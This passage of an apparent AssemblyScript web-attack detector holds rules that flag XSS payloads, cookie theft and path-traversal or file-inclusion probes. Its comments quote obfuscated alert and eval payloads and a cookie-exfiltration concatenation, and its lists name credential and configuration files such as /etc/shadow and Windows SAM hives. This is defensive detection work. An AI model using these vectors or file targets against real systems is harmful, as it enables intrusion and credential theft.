    if (!viaMethod && c != 0x29 && c != 0x2e) continue;
    // Through call/apply with arguments ("alert.call()" is how prose names it); parenthesized with nothing
    // between the parentheses ("(Confirm) (2) copies" is a list).
    if (viaMethod && nb(jsTokenAfter(e + 1)) == 0x29) continue;
    if (c == 0x29 && nb(e - 1) != 0x29) continue;
    if (inFence(s)) continue;
    return true;
  }
  return false;
}

// The word before the '.' at d is a name of the page's global object (window.alert, top.eval).
function globalBefore(d: i32): bool {
  let s = d;
  while (s > 0 && isAlpha(nb(s - 1))) s--;
  return wordEquals(s, d, "window") || wordEquals(s, d, "self") || wordEquals(s, d, "top") || wordEquals(s, d, "parent") ||
    wordEquals(s, d, "frames") || wordEquals(s, d, "globalthis") || wordEquals(s, d, "content") || wordEquals(s, d, "opener") ||
    wordEquals(s, d, "parentwindow") || wordEquals(s, d, "defaultview");
}

// Bytes of a JavaScript identifier (after folding): letters, digits, '_' and '$'.
@inline function isJsIdent(c: u32): bool { return isAlpha(c) || isDigit(c) || c == 0x5f || c == 0x24; }
// Callables a payload hands to another name before calling it, so that no "alert(" is written.
const ALIASED_CALLABLES: StaticArray<string> = ["alert", "prompt", "confirm", "eval", "settimeout", "setinterval", "function", "unescape", "atob", "execscript"];
// A dialog or eval given another name, then called by it: a=alert;a(1), a=eval;b=alert;a(b(1)),
// _=eval,__=unescape,_(__(x)), $$$=eval,$$$(…). The name is assigned the callable itself (not a call, not a
// string) and later called (or used as a tag): "level=alert, level 3" and "mode=eval" alone are configuration.
function aliasedCallableCall(): bool {
  for (let q = nextEq(1); q > 0; q = nextEq(q + 1)) {
    const b = nb(q - 1), a = nb(q + 1);
    if (a == 0x3d || b == 0x3d || b == 0x21 || b == 0x3c || b == 0x3e) continue; // == != <= >=
    const e = jsTokenEndBefore(q);
    let s = e;
    while (s > 0 && e - s < 32 && isJsIdent(nb(s - 1))) s--;
    if (s == e || isDigit(nb(s))) continue;
    const v = jsTokenAfter(q + 1);
    let w = v;
    while (w < normLen && isAlpha(nb(w))) w++;
    let k = 0;
    while (k < ALIASED_CALLABLES.length && !wordEquals(v, w, unchecked(ALIASED_CALLABLES[k]))) k++;
    if (k == ALIASED_CALLABLES.length) continue;
    const t = nb(jsTokenAfter(w));
    if (!(t == 0x3b || t == 0x2c || t == 0x0a || t == 0)) continue; // the callable itself, ended
    // The alias called later (within 256 bytes: a value of many "a=alert;" stays linear): its name as a whole
    // identifier, then '(' or '`'.
    const len = e - s;
    const lim = w + 256 < normLen ? w + 256 : normLen;
    for (let j = w; j + len < lim; j++) {
      let same = true;
      for (let m = 0; m < len; m++) if (nb(j + m) != nb(s + m)) { same = false; break; }
      if (!same || (j > 0 && (isJsIdent(nb(j - 1)) || nb(j - 1) == 0x2e))) continue;
      const after = jsTokenAfter(j + len);
      if (after < normLen && (nb(after) == 0x28 || nb(after) == 0x60) && !isJsIdent(nb(j + len))) return true;
    }
  }
  return false;
}
// A dialog handed to a method as its callback: [1].find(alert), [1].map(confirm), x.then(prompt). The
// parentheses hold the name alone, and a method's '.' comes before them ("Sound (alert)" has none).
function dialogAsCallback(): bool {
  for (let e = nextInSet(normPtr, 1, normLen, SET_PAREN); e < normLen; e = nextInSet(normPtr, e + 1, normLen, SET_PAREN)) {
    const v = jsTokenAfter(e + 1);
    const c = nb(v);
    if (!(c == 0x61 || c == 0x70 || c == 0x63)) continue; // a(lert) p(rompt) c(onfirm)
    let w = v;
    while (w < normLen && isAlpha(nb(w))) w++;
    if (!(wordEquals(v, w, "alert") || wordEquals(v, w, "prompt") || wordEquals(v, w, "confirm"))) continue;
    if (nb(jsTokenAfter(w)) != 0x29) continue;
    const me = jsTokenEndBefore(e);
    let ms = me;
    while (ms > 0 && isAlpha(nb(ms - 1))) ms--;
    if (ms == me || ms < 1) continue;
    if (nb(jsTokenEndBefore(ms) - 1) == 0x2e && !inFence(e)) return true;
  }
  return false;
}
// A name spelled from the sources of regular expressions: top[/al/.source+/ert/.source](1),
// a=/ev/ .source; a+=/al/ .source. Two such pieces make the name; prose writes no "/…/.source".
function regexSourcePieces(): bool {
  let pieces = 0;
  for (let d = indexOf(".source", 0); d > 0; d = indexOf(".source", d + 7)) {
    if (isJsIdent(nb(d + 7))) continue;
    let j = jsTokenEndBefore(d);
    while (j > 0 && isAlpha(nb(j - 1)) && j > d - 8) j--; // flags (/x/gi)
    if (j < 3 || nb(j - 1) != 0x2f) continue;
    let k = j - 2;
    while (k > 0 && j - k <= 24 && nb(k) != 0x2f && nb(k) != 0x0a) k--;
    if (nb(k) != 0x2f || k == j - 2) continue;
    if (++pieces >= 2) return true;
  }
  return false;
}
// A callable's name spelled as a number in another base, used as a property: top[8680439..toString(30)](1)
// ("alert" in base 30), (1558153217).toString(36). The number is converted and compared with the names.
const SPELLED_NAMES: StaticArray<string> = ["alert", "prompt", "confirm", "eval", "cookie", "location", "constructor", "settimeout", "setinterval", "document", "write", "fetch", "import"];
const spelledBuf = memory.data(16);
function numberSpellsName(): bool {
  for (let d = indexOf("tostring", 0); d > 0; d = indexOf("tostring", d + 8)) {
    const open = jsTokenAfter(d + 8);
    if (nb(open) != 0x28) continue;
    let r = jsTokenAfter(open + 1);
    let radix: u32 = 0;
    while (isDigit(nb(r)) && radix < 100) { radix = radix * 10 + (nb(r) - 0x30); r++; }
    if (radix < 11 || radix > 36) continue;
    // The number before ".toString": 8680439..toString, (8680439).toString, 8680439 .toString
    let e = jsTokenEndBefore(d);
    if (nb(e - 1) != 0x2e) continue;
    e = jsTokenEndBefore(e - 1);
    if (nb(e - 1) == 0x2e) e--;
    if (nb(e - 1) == 0x29) e = jsTokenEndBefore(e - 1);
    let s = e;
    while (s > 0 && e - s < 19 && isDigit(nb(s - 1))) s--;
    if (s == e) continue;
    let v: u64 = 0;
    for (let k = s; k < e; k++) v = v * 10 + <u64>(nb(k) - 0x30);
    // Its digits in that base (lower-case letters, as JavaScript writes them).
    let n = 0;
    while (v > 0 && n < 16) { const dg = <u32>(v % <u64>radix); store<u8>(spelledBuf + <usize>(15 - n), <u8>(dg < 10 ? 0x30 + dg : 0x57 + dg)); v /= <u64>radix; n++; }
    if (v != 0 || n < 4) continue;
    for (let k = 0; k < SPELLED_NAMES.length; k++) {
      const w = unchecked(SPELLED_NAMES[k]);
      if (w.length != n) continue;
      let same = true;
      for (let m = 0; m < n; m++) if (<u32>load<u8>(spelledBuf + <usize>(16 - n + m)) != ch(w, m)) { same = false; break; }
      if (same) return true;
    }
  }
  return false;
}
// A URL attribute written outside a tag with a script URI as its value: href="data:text/html;base64,…",
// src=javascript:…, formaction='vbscript:…' (the value lands inside a tag the page writes around it).
const URI_ATTRIBUTES: StaticArray<string> = ["href", "src", "action", "formaction", "data", "background", "poster", "lowsrc", "dynsrc", "codebase"];
function uriAttributeOutsideTag(): bool {
  // Only script URIs count (javascript:, vbscript:, livescript:, mocha:, data:…): a URL's query has none.
  if (indexOf("script", 0) < 0 && indexOf("data:", 0) < 0 && indexOf("mocha", 0) < 0) return false;
  for (let q = nextEq(1); q > 0; q = nextEq(q + 1)) {
    const e = jsTokenEndBefore(q);
    let s = e;
    while (s > 0 && e - s < 12 && isAlpha(nb(s - 1))) s--;
    if (s == e || (s > 0 && (isWordByte(nb(s - 1)) || nb(s - 1) == 0x2d))) continue;
    let k = 0;
    while (k < URI_ATTRIBUTES.length && !wordEquals(s, e, unchecked(URI_ATTRIBUTES[k]))) k++;
    if (k == URI_ATTRIBUTES.length) continue;
    let v = q + 1;
    while (v < normLen && (isSpace(nb(v)) || nb(v) == 0x22 || nb(v) == 0x27 || nb(v) == 0x60)) v++;
    if (scriptUriAt(v) && !scriptUriTitle()) return true;
  }
  return false;
}

// Script that writes into the page, which only a value run as script does: the cookie set
// (document.cookie=…), markup written (document.write('<…'), x.innerHTML='<…'), the page sent elsewhere
// (location.href='//…', window.location="http…"), an element built and inserted
// (….appendChild(document.createElement(…))). "Use document.write() sparingly" writes nothing; the value
// assigned must be a literal ("el.innerHTML = userInput" is a line of code being discussed).
const DOM_SINK_WORDS: StaticArray<string> = ["cookie", "write", "innerhtml", "outerhtml", "location", "href", "appendchild"];
// Whether some '.' of the value comes before a sink's name (most values' dots are in host names and files). The
// assigned sinks need '=' in the value, the called ones (write, appendChild) '('.
function dotBeforeSinkWord(): bool {
  const eq = (present & P_EQ) != 0;
  for (let d = nextDot(0); d >= 0; d = nextDot(d + 1)) {
    const c = nb(d + 1);
    if (eq ? !(c == 0x63 || c == 0x77 || c == 0x69 || c == 0x6f || c == 0x6c || c == 0x68 || c == 0x61) : !(c == 0x77 || c == 0x61)) continue; // c w i o l h a
    for (let k = 0; k < DOM_SINK_WORDS.length; k++) if (startsAt(d + 1, unchecked(DOM_SINK_WORDS[k]))) return true;
  }
  return false;
}
function domSinkWrite(): bool {
  if (!dotBeforeSinkWord()) return false;
  for (let d = indexOf("document.cookie", 0); d >= 0; d = indexOf("document.cookie", d + 15)) {
    const q = jsTokenAfter(d + 15);
    if (nb(q) == 0x3d && nb(q + 1) != 0x3d && !inFence(d)) return true;
  }
  for (let d = indexOf("document.write", 0); d >= 0; d = indexOf("document.write", d + 14)) {
    let o = d + 14;
    if (startsAt(o, "ln")) o += 2;
    o = jsTokenAfter(o);
    if (nb(o) != 0x28) continue;
    const a = jsTokenAfter(o + 1), c = nb(a);
    if ((c == 0x22 || c == 0x27 || c == 0x60) && (nb(a + 1) == 0x3c || startsAt(a + 1, "%3c")) && !inFence(d)) return true;
  }
  for (let d = indexOf("html", 0); d >= 4; d = indexOf("html", d + 4)) {
    if (!(startsAt(d - 6, ".inner") || startsAt(d - 6, ".outer"))) continue;
    const q = jsTokenAfter(d + 4);
    if (nb(q) != 0x3d || nb(q + 1) == 0x3d) continue;
    const v = jsTokenAfter(q + 1), c = nb(v);
    if ((c == 0x22 || c == 0x27 || c == 0x60) && nb(v + 1) == 0x3c && !inFence(d)) return true;
  }
  for (let d = indexOf("location", 0); d >= 0; d = indexOf("location", d + 8)) {
    if (d > 0 && isJsIdent(nb(d - 1))) continue;
    let e = d + 8;
    if (startsAt(e, ".href")) e += 5;
    if (isJsIdent(nb(e))) continue;
    // window.location / document.location / top.location / self.location / location.href: an object or .href
    const b = d > 0 && nb(d - 1) == 0x2e ? d - 1 : -1;
    if (b < 0 && e == d + 8) continue;
    if (b >= 0 && !(globalBefore(b) || startsAt(b - 8, "document"))) continue;
    const q = jsTokenAfter(e);
    if (nb(q) != 0x3d || nb(q + 1) == 0x3d) continue;
    const v = jsTokenAfter(q + 1), c = nb(v);
    if ((c == 0x22 || c == 0x27 || c == 0x60) && (startsAt(v + 1, "//") || startsAt(v + 1, "http") || scriptUriAt(v + 1)) && !inFence(d)) return true;
  }
  const ce = indexOf("document.createelement", 0);
  if (ce >= 0 && indexOf("appendchild", 0) >= 0 && !inFence(ce)) return true;
  return false;
}
// A function called by a tagged template, which needs no parentheses: [].sort.call`${alert}1`,
// Reflect.apply.call`…`, alert`1`. Markdown's `code` spans end in a backtick too: the template must open
// with ${, `, a digit or a quote right after it.
const SET_BACKTICK = byteSet("`");
function taggedTemplateCall(): bool {
  for (let i = 1; i < normLen; i++) {
    i = nextInSet(normPtr, i, normLen, SET_BACKTICK);
    if (i >= normLen) break;
    if (nb(i) != 0x60) continue;
    // JavaScript allows blanks and comments between the tokens: [ ] . sort . call ` ${ alert } 1 `.
    const t = jsTokenAfter(i + 1);
    const d = nb(t);
    if (!((d == 0x24 && nb(jsTokenAfter(t + 1)) == 0x7b) || d == 0x60 || isDigit(d) || d == 0x22 || d == 0x27)) continue;
    if (inFence(i)) continue;
    const e = jsTokenEndBefore(i);
    let s = e;
    while (s > 0 && isAlpha(nb(s - 1))) s--;
    if (s == e) continue;
    const dot = jsTokenEndBefore(s) - 1;
    if (dot >= 0 && nb(dot) == 0x2e && (wordEquals(s, e, "call") || wordEquals(s, e, "apply") || wordEquals(s, e, "bind"))) return true;
  }
  return false;
}
// Blanks and comments between two tokens of code (/* */, and for PHP # and // to the line's end): the next
// token's start from i, the end of the token before i. A gap longer than GAP_CAP bytes is no obfuscation
// between two tokens: normLen (after) or 0 (before), "no token there". Bounded, so that a value of many
// "document/*" or "$a #" stays linear. Shared by every rule that reads code across its gaps (global property by
// string, PHP calls and variable calls, tagged templates, the cookie read, constant loops).
const GAP_CAP: i32 = 64;
function tokenAfterGap(i: i32, lineComments: bool): i32 {
  const lim = i + GAP_CAP < normLen ? i + GAP_CAP : normLen;
  while (i < lim) {
    const c = nb(i);
    if (isSpace(c)) { i++; continue; }
    if (c == 0x2f && nb(i + 1) == 0x2a) {
      let k = i + 2;
      while (k + 1 < lim && !(nb(k) == 0x2a && nb(k + 1) == 0x2f)) k++;
      if (k + 1 >= lim) return normLen;
      i = k + 2;
      continue;
    }
    if (lineComments && (c == 0x23 || (c == 0x2f && nb(i + 1) == 0x2f))) {
      while (i < lim && nb(i) != 0x0a) i++;
      if (i >= lim) return normLen;
      continue;
    }
    break;
  }
  return i < lim || lim == normLen ? i : normLen;
}
@inline function jsTokenAfter(i: i32): i32 { return tokenAfterGap(i, false); }
@inline function phpTokenAfter(i: i32): i32 { return tokenAfterGap(i, true); }
// Whether the gap [a, b) (from tokenAfterGap) holds a comment, not only blanks.
function commentIn(a: i32, b: i32): bool {
  for (let k = a; k < b; k++) { const c = nb(k); if (c == 0x23 || (c == 0x2f && (nb(k + 1) == 0x2a || nb(k + 1) == 0x2f))) return true; }
  return false;
}
function jsTokenEndBefore(i: i32): i32 {
  const lim = i - GAP_CAP > 0 ? i - GAP_CAP : 0;
  while (i > lim) {
    if (isSpace(nb(i - 1))) { i--; continue; }
    if (nb(i - 1) == 0x2f && nb(i - 2) == 0x2a) {
      let k = i - 3;
      while (k > lim && !(nb(k - 1) == 0x2f && nb(k) == 0x2a)) k--;
      if (k <= lim) return 0;
      i = k - 1;
      continue;
    }
    break;
  }
  return i > lim || lim == 0 ? i : 0;
}

// The page's cookie read where a payload sends it away or hides the read: concatenated into a string
// ('//x/?c='+document.cookie, document.cookie+'…'), or reached through comments or parentheses
// (document /*x*/ . cookie, (document/*x*/).cookie). A mention in prose ("read document.cookie") is neither.
// (document["cookie"] and (document)['cookie'] are globalPropertyByString's, read before this.)
function cookieRead(): bool {
  for (let i = indexOf("document", 0); i >= 0; i = indexOf("document", i + 8)) {
    if (i > 0 && isWordByte(nb(i - 1))) continue;
    let j = i + 8;
    let hidden = false;
    // Closing parentheses around the object: (document).cookie. Blanks alone hide nothing (prose spaces words).
    // (A gap past GAP_CAP is "no token": nothing of it is read again, so many such gaps stay linear.)
    for (;;) { const k = jsTokenAfter(j); if (k >= normLen) break; if (commentIn(j, k)) hidden = true; j = k; if (nb(j) == 0x29) { j++; hidden = true; continue; } break; }
    if (nb(j) != 0x2e) continue;
    j++;
    const k = jsTokenAfter(j);
    if (k >= normLen) continue;
    if (commentIn(j, k)) hidden = true;
    if (!startsAt(k, "cookie") || isWordByte(nb(k + 6))) continue;
    if (hidden) return true;
    // Plain document.cookie: joined to a string by '+' on either side.
    const before = jsTokenEndBefore(i);
    if (before > 0 && nb(before - 1) == 0x2b) return true;
    const after = jsTokenAfter(k + 6);
    if (nb(after) == 0x2b && nb(after + 1) != 0x3d) return true;
  }
  return false;
}

// CSS hides a vector behind its escapes and comments: <STYLE>@im\port'\ja\vasc\ript:…', style="x:expr/*…*/
// ession(…)", background-image:\0075\0072\006C\0028…. A value that names a style and holds a backslash or a
// comment is read once more with them resolved (into the normalization buffer not in use) by the rules above.
let cssReread = false;
function cssHiddenVector(): bool {
  if (cssReread || !(present & P_SLASH) || indexOf("style", 0) < 0) return false;
  if (indexOf("\\", 0) < 0 && indexOf("/*", 0) < 0) return false;
  const out = normPtr == bufA ? bufB : bufA;
  let w = 0;
  let i = 0;
  while (i < normLen) {
    const c = nb(i);
    if (c == 0x2f && nb(i + 1) == 0x2a) { const e = indexOf("*/", i + 2); i = e < 0 ? normLen : e + 2; continue; }
    if (c == 0x5c && i + 1 < normLen) {
      let j = i + 1, cp: u32 = 0;
      while (j < normLen && j < i + 7 && isHex(nb(j))) { cp = (cp << 4) | hexVal(nb(j)); j++; }
      if (j > i + 1) { // \XX…: a code point, one blank after it ends it
        if (j < normLen && isSpace(nb(j))) j++;
        if (cp >= 0x41 && cp <= 0x5a) cp |= 0x20;
        if (cp > 0 && cp < 0x80) store<u8>(out + <usize>(w++), <u8>cp);
        i = j;
        continue;
      }
      const d = nb(i + 1);
      if (d != 0x0a) store<u8>(out + <usize>(w++), <u8>d); // \ before a newline continues the line
      i += 2;
      continue;
    }
    store<u8>(out + <usize>(w++), <u8>c);
    i++;
  }
  const savedPtr = normPtr, savedLen = normLen, savedPresent = present, savedFenced = fenced;
  normPtr = out; normLen = w; fenced = false;
  presentBytes();
  cssReread = true;
  const hit = xssOnNormalized();
  cssReread = false;
  normPtr = savedPtr; normLen = savedLen; present = savedPresent; fenced = savedFenced;
  markupVectors = -1; scriptCloseAt = -2;
  return hit;
}
// UTF-7 markup: "+ADw-" is '<' (+ADw-script+AD4-). Its '+' stays a '+' when it came percent-encoded
// in JSON, and reads as a space where a '+' was read as one (forms; a decoded %2B read again).
function utf7Markup(): bool {
  for (let u = indexOf("adw-", 0); u > 0; u = indexOf("adw-", u + 4)) {
    if ((nb(u - 1) == 0x2b || (nb(u - 1) == 0x20 && rawHadPlus)) && (isAlpha(nb(u + 4)) || nb(u + 4) == 0x2f)) return true;
  }
  return false;
}

// ---- path traversal, LFI, RFI -------------------------------------------------------------------------------

// Commands that print or copy a file (cmd.exe, PowerShell and Unix), read before a system path.
const FILE_READERS: StaticArray<string> = ["type", "more", "cat", "copy", "get-content", "gc", "less", "head", "tail", "xcopy"];
function afterFileReader(i: i32): i32 {
  const f = nb(i) | 0x20;
  if (!(f == 0x74 || f == 0x6d || f == 0x63 || f == 0x67 || f == 0x6c || f == 0x68 || f == 0x78)) return i;
  let e = i;
  while (e < normLen && e < i + 12 && (isAlpha(nb(e)) || nb(e) == 0x2d)) e++;
  if (!isSpace(nb(e))) return i;
  for (let k = 0; k < FILE_READERS.length; k++) if (wordEquals(i, e, unchecked(FILE_READERS[k]))) return skipBlanks(e);
  return i;
}

// Called with backslashes already counted as slashes.
@inline function isSlash(c: u32): bool { return c == 0x2f || c == 0x5c; }

function traversalOnNormalized(): bool {
  // "../" or "..\" segments, including "..;/" and "....//" filter bypasses.
  let slashAt = -1; // the first slash at or after the last "..;" looked from (reused: "..;..;…" stays linear)
  for (let i = 0; i + 1 < normLen; i++) {
    i = nextInSet(normPtr, i, normLen, SET_DOT);
    if (i + 1 >= normLen) break;
    if (nb(i) == 0x2e && nb(i + 1) == 0x2e) {
      const before = i == 0 || isSlash(nb(i - 1)) || nb(i - 1) == 0x2e || nb(i - 1) == 0x3d;
      let j = i + 2;
      if (nb(j) == 0x3b) {
        if (j < slashAt) j = slashAt;
        else { while (j < normLen && !isSlash(nb(j))) j++; slashAt = j; }
      }
      // "..2f..2fetc2fpasswd": the escape's '%' dropped by a tool (2f and 5c are / and \)
      const after = j >= normLen ? i > 0 && isSlash(nb(i - 1)) : isSlash(nb(j)) || (nb(j) == 0x32 && nb(j + 1) == 0x66 && (nb(j + 2) == 0x2e || isAlpha(nb(j + 2)))) ||
        (nb(j) == 0x35 && nb(j + 1) == 0x63 && (nb(j + 2) == 0x2e || isAlpha(nb(j + 2))));
      if (before && after) { lastRule = "traversal:dot-dot"; return true; }
    }
  }
  if (sensitiveFileAt()) { lastRule = "traversal:sensitive-file"; return true; }
  if (systemPathValue()) { lastRule = "traversal:system-path"; return true; }
  if ((present & P_DOT) != 0 && dotSegmentsHideFile()) { lastRule = "traversal:sensitive-file"; return true; }
  if ((present & P_COLON) && wrapperAtColon()) { lastRule = "traversal:wrapper"; return true; }
  if ((present & P_DOLLAR) && uncAdminShare()) { lastRule = "traversal:unc-admin-share"; return true; }
  return false;
}
// "/./etc/./passwd", "\\.\\windows\\.\\win.ini": single-dot segments, which every server removes before it opens
// the file, between the names the file rules know. The value is read once more with them removed.
let dotSegmentText: usize = 0;
function dotSegmentsHideFile(): bool {
  if (indexOf("/./", 0) < 0 && indexOf("\\.\\", 0) < 0 && !(nb(0) == 0x2e && isSlash(nb(1)))) return false;
  if (dotSegmentText == 0) dotSegmentText = heap.alloc(<usize>(NORM_CAP + NORM_SLACK));
  let w = 0;
  for (let i = 0; i < normLen; i++) {
    // "./" at the start or after a slash is dropped
    if (nb(i) == 0x2e && i + 1 < normLen && isSlash(nb(i + 1)) && (i == 0 || isSlash(nb(i - 1)))) { i++; continue; }
    store<u8>(dotSegmentText + <usize>(w++), <u8>nb(i));
  }
  const savedPtr = normPtr, savedLen = normLen;
  normPtr = dotSegmentText; normLen = w;
  const hit = sensitiveFileAt() || systemPathValue();
  normPtr = savedPtr; normLen = savedLen;
  return hit;
}
// A value that is a path into the system's configuration, accounts or logs (what LFI parameters are given,
// SecLists' LFI lists): /etc/<a server's or the system's file>… (ETC_NAMES: not any /etc/ path, a deployment's
// own /etc/shadowsocks/config.json is no probe), /root/…, /var/adm/, /var/log, /var/spool/, /var/mail/, /var/cpanel/, a
// server's tree under /usr/local/ or /opt/. The whole value only (prose that names "/etc/hosts" has blanks), after
// a file:// scheme or quotes; the names CRS lists anywhere are LIST_FILES_4's.
const SYSTEM_DIRS: StaticArray<string> = ["root/", "var/adm/", "var/log", "var/spool/", "var/mail/", "var/cpanel/", "var/lp/", "var/saf/",
  "usr/local/apache", "usr/local/cpanel", "usr/local/etc/", "usr/local/pureftpd", "usr/local/psa/", "usr/local/lib/php", "usr/local/mysql",
  "usr/local/pgsql", "usr/local/samba", "usr/local/www/", "usr/local/nginx", "usr/local/lighttpd", "opt/lampp/", "opt/xampp/", "opt/tomcat",
  "opt/apache", "opt/httpd", ".shosts", ".rhosts", ".xauthority"];
const ETC_NAMES =
  "motd|hostname|vsftpd|syslog|rsyslog|utmp|wtmp|rpc|php|apache|init.d|logrotate|security|default|proftpd" +
  "|protpd|pure-ftpd|wu-ftpd|ftpchroot|ftphosts|ftpusers|inetd|xinetd|exports|shells|profile|bashrc" +
  "|bash.bashrc|lighttpd|tomcat|redis|postgresql|openvpn|samba|smb|ldap|openldap|pam.d|sysconfig|network" +
  "|protocols|services|inittab|ld.so|modules|gshadow|aliases|login.defs|mtab|cups|x11|named|bind|squid" +
  "|webmin|squirrelmail|muddleftpd|sysctl|clamav|dhcp|dhcp3|apt|yum|postfix|dovecot|snmp|krb5|nsswitch|lilo" +
  "|grub|ipf|iptables|selinux|audit|apparmor|fail2ban|haproxy|mail|chrootusers|defaultdomain|defaultrouter" +
  "|sw-cp-server|wicd|mono|bluetooth|vmware-tools|miredo|opt|master.passwd|netconfig|termcap|updatedb" +
  "|securetty|sudo|doas|autologin|hosts.allow|hosts.deny|hosts.equiv|ssl/private|mysql|cron|anacrontab" +
  "|at.allow|at.deny|issue|lsb-release|os-release|redhat-release|debian_version|passwd|shadow|group" +
  "|environment|kubernetes";
// (Not ssl/certs, localtime, timezone, machine-id: workloads mount them, and their paths travel in manifests.)
// the name, then the segment's end or a suffix after '.', '-', '_' or a digit (hostname.bge, php5, vsftpd.conf)
function etcNameAt(i: i32, e: i32): bool { return listEntryAt(ETC_NAMES, i, normLen < e ? normLen : e); }
// Files of a Windows host that LFI lists read through a drive path (c:/mysql/my.ini, C:\Windows\repair\SAM):
// account hives, database and FTP server configuration, unattended-setup answers (they hold passwords).
const WINDOWS_FILES: StaticArray<string> = ["ntuser.dat", "my.ini", "pg_hba.conf", "postgresql.conf", "filezilla server.xml", "unattend.xml", "unattended.xml",
  "sysprep.inf", "sysprep.xml", "master.mdf", "mysql.log", "mysql.err", "mysql-bin.", "netsetup.log", "repair/sam", "repair/system", "repair/software",
  "repair/security", "config/sam", "config/system", "config/software", "config/security", "php.ini", "httpd.conf", "access.log", "error.log", "web.config"];
// A drive path into Windows' own directory or a server stack's install (c:/windows/setupapi.log,
// c:/winnt/odbc.ini, c:/xampp/…, c:/wamp/…): a file there, never an upload or a document.
const WINDOWS_DIRS: StaticArray<string> = ["windows", "winnt", "xampp", "wamp", "inetpub"];
function windowsSystemDir(i: i32, e: i32): bool {
  let j = i;
  while (j < e && !isSlash(nb(j))) j++;
  if (j + 1 >= e) return false;
  for (let k = 0; k < WINDOWS_DIRS.length; k++) if (wordEquals(i, j, unchecked(WINDOWS_DIRS[k]))) return true;
  return false;
}
function windowsFileIn(i: i32, e: i32): bool {
  for (let k = 0; k < WINDOWS_FILES.length; k++) {
    const n = unchecked(WINDOWS_FILES[k]);
    const m = n.length;
    for (let s = i; s + m <= e; s++) {
      let j = 0;
      while (j < m && (nb(s + j) == ch(n, j) || (ch(n, j) == 0x2f && nb(s + j) == 0x5c))) j++;
      if (j == m && isSlash(nb(s - 1)) && (s + m == e || !isAlpha(nb(s + m)) || ch(n, m - 1) == 0x2e)) return true;
    }
  }
  return false;
}
// Server software's own configuration, credentials and logs, by file name (the last segment; a name ending in
// '.' is a prefix: mysql-bin.000001, mysql-bin.index). Tomcat's descriptors only under a conf/ directory
// (server.xml alone is any project's).
const SERVER_FILES: StaticArray<string> = ["pg_hba.conf", "pg_ident.conf", "postgresql.conf", "postmaster.log", "pg_version", "my.ini", "my.cnf", "mysql-bin.",
  "mysql.err", "mysql.log", "user.myd", "catalina.out", "catalina.err", "mod_jk.log", "tomcat-users.xml", "workers.properties", "lighttpd.conf",
  ".lighttpdpassword", "pureftpd.passwd", "pureftpd.pdb", "pure-ftpd.conf", "proftpd.conf", "smbpasswd", "miniserv.log", "httpd_conf.xml", "squirrelmail.log",
  "php.ini", "httpd.conf", "apache2.conf", "apache.conf", "config.inc.php", "wampserver.conf", "pgadmin.log", "apache_error.log"];
const CONF_DIR_FILES: StaticArray<string> = ["server.xml", "context.xml", "web.xml", "logging.properties", "jakarta.conf"];
// Whether a name may end in these four bytes (a u32 load): every ending of the names above, and the numbered
// files of the prefix entry (mysql-bin.000001, mysql-bin.index). Most paths (file.txt, photo.png) stop here.
@inline function serverFileEnding(t: u32): bool {
  return t == 0x666e6f63 || t == 0x676f6c2e || t == 0x6c6d782e || t == 0x696e692e || t == 0x666e632e || t == 0x64777373 || t == 0x6264702e || // conf .log .xml .ini .cnf sswd .pdb
    t == 0x7272652e || t == 0x74756f2e || t == 0x64796d2e || t == 0x73656974 || t == 0x6e6f6973 || t == 0x64726f77 || t == 0x7068702e ||         // .err .out .myd ties sion word .php
    t == 0x7865646e || isDigit(t >> 24);                                                                                                           // ndex, a digit
}
// A name added to the lists with an ending the test above does not know would never match: checked at start
// (a failed assert fails every test).
function checkServerFileEndings(): void {
  for (let k = 0; k < SERVER_FILES.length + CONF_DIR_FILES.length; k++) {
    const w = k < SERVER_FILES.length ? unchecked(SERVER_FILES[k]) : unchecked(CONF_DIR_FILES[k - SERVER_FILES.length]);
    const m = w.length;
    if (ch(w, m - 1) == 0x2e) continue; // the prefix entry
    assert(serverFileEnding(ch(w, m - 4) | (ch(w, m - 3) << 8) | (ch(w, m - 2) << 16) | (ch(w, m - 1) << 24)), "serverFileEnding knows every server file's ending");
  }
}
checkServerFileEndings();
function trimmedEnd(i: i32): i32 {
  let e = normLen;
  while (e > i && (isSpace(nb(e - 1)) || nb(e - 1) == 0x22 || nb(e - 1) == 0x27 || nb(e - 1) == 0)) e--;
  return e;
}
function noBlankTo(i: i32, e: i32): bool {
  for (let k = i; k < e; k++) { const c = nb(k); if (isSpace(c) || c == 0x3c || c == 0x3e) return false; }
  return true;
}
function serverFileAtEnd(i: i32, e: i32): bool {
  if (e - i < 7) return false;
  if (!serverFileEnding(load<u32>(normPtr + <usize>(e - 4)))) return false;
  let s = e;
  while (s > i && !isSlash(nb(s - 1))) s--;
  const n = e - s;
  if (n < 5 || s == i + 1) return false; // a file name, under at least one directory
  for (let k = 0; k < SERVER_FILES.length; k++) {
    const w = unchecked(SERVER_FILES[k]);
    if (ch(w, w.length - 1) == 0x2e ? n > w.length && startsAt(s, w) : wordEquals(s, e, w)) return true;
  }
  if (s - i >= 6 && startsAt(s - 5, "conf") && isSlash(nb(s - 6))) {
    for (let k = 0; k < CONF_DIR_FILES.length; k++) if (wordEquals(s, e, unchecked(CONF_DIR_FILES[k]))) return true;
  }
  return false;
}
function systemPathValue(): bool {
  let i = skipBlanks(0);
  // The path as the argument of a command that prints a file: type C:\Windows\repair\SAM, more /etc/shadow.
  i = afterFileReader(i);
  while (i < normLen && (nb(i) == 0x22 || nb(i) == 0x27)) i++;
  if (startsAt(i, "file://")) i += 7;
  if (isAlpha(nb(i)) && nb(i + 1) == 0x3a && isSlash(nb(i + 2))) { // a drive path: its own list
    const e = trimmedEnd(i);
    return e - i <= 260 && (windowsFileIn(i + 3, e) || windowsSystemDir(i + 3, e) || serverFileAtEnd(i + 2, e));
  }
  // A hidden file in the user's home: ~/.profile, ~/.viminfo, ~/.php_history (shell and editor state, keys).
  if (nb(i) == 0x7e && isSlash(nb(i + 1)) && nb(i + 2) == 0x2e && isWordByte(nb(i + 3))) return noBlankTo(i, trimmedEnd(i));
  if (!isSlash(nb(i))) return false;
  while (isSlash(nb(i + 1))) i++;
  const e = trimmedEnd(i);
  // A database's, servlet container's or FTP server's own file, wherever it is installed:
  // /usr/local/pgsql/data/pg_hba.conf, /opt/tomcat/conf/tomcat-users.xml, /usr/pkgsrc/net/pureftpd/pureftpd.passwd.
  if (serverFileAtEnd(i, e)) return noBlankTo(i, e);
  // The first segment's first byte decides which names can follow: e(tc) r(oot) v(ar) u(sr) o(pt) .(shosts…)
  const f = nb(i + 1);
  if (!(f == 0x65 || f == 0x72 || f == 0x76 || f == 0x75 || f == 0x6f || f == 0x2e)) return false;
